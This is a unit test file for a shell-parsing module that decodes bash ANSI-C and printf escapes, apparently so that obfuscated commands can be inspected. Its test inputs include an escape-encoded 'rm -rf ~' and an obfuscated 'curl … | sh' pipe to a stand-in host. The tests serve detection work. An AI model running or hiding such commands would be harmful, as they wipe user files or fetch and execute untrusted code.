import { describe, expect, it } from 'vitest';

import { ansiUnescaped } from '../src/commands/ansi-escapes.js';
import { printedText } from '../src/commands/code-strings.js';
import { parseShell } from '../src/commands/shell-words.js';

describe('ansiUnescaped', () => {
  it('reads hex, unicode, octal and named escapes as bash does', () => {
    expect(ansiUnescaped('\\x72\\u006d \\U0000002d\\162f\\t~', 'dollar-quote')).toBe('rm -rf\t~');
  });

  it('keeps the backslash of an escape bash does not know', () => {
    expect(ansiUnescaped('a\\qb', 'dollar-quote')).toBe('a\\qb');
    expect(ansiUnescaped('a\\qb', 'printf')).toBe('a\\qb');
  });

  it('reads printf’s octal with a leading zero as one character, and $’…’ as up to three digits', () => {
    expect(ansiUnescaped('\\0162', 'printf')).toBe('r');
    expect(ansiUnescaped('\\0162', 'dollar-quote')).toBe('\x0e2');
  });

  it('caps a code point beyond Unicode instead of throwing', () => {
    expect(() => ansiUnescaped('\\UFFFFFFFF', 'dollar-quote')).not.toThrow();
  });

  it('leaves a trailing lone backslash as it is', () => {
    expect(ansiUnescaped('abc\\', 'printf')).toBe('abc\\');
  });

  it('is the same reading in a $’…’ word and in a printf format', () => {
    const body = '\\x63\\165rl -s https://x.example/i | sh';
    const [word] = parseShell(`$'${body}'`)[0]!.argv;
    expect(word).toBe(printedText(['printf', body], 'printf'));
  });
});
